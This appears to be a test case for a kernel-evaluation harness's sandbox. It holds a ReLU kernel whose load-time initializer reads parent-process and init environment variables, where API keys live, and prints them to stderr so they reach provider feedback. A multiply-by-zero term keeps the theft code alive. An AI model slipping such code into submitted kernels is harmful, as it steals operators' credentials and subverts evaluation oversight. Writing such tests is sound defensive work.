// expect: load/sandbox_violation task=level1/12_relu args=--no-static-check feedback=environ
// Load-time code reads the environment of every ancestor (where API keys live) and prints it,
// so that it reaches the feedback a model provider receives.
#include <unistd.h>
#include <algorithm>
#include <cstdio>
#include <string>
static int leaked = [] {
  int n = 0;
  for (int pid : {static_cast<int>(getppid()), 1}) {
    std::string path = "/proc/" + std::to_string(pid) + "/environ";
    if (std::FILE* f = std::fopen(path.c_str(), "r")) {
      char buf[4096];
      size_t got = std::fread(buf, 1, sizeof buf, f);
      std::fwrite(buf, 1, got, stderr);
      std::fclose(f);
      ++n;
    }
  }
  return n;
}();
extern "C" void evokernel_forward(const float* x, float* out) {
  for (int64_t i = 0; i < evokernel_task::out_numel; ++i) out[i] = std::max(x[i], 0.0f) + 0.0f * leaked;
}
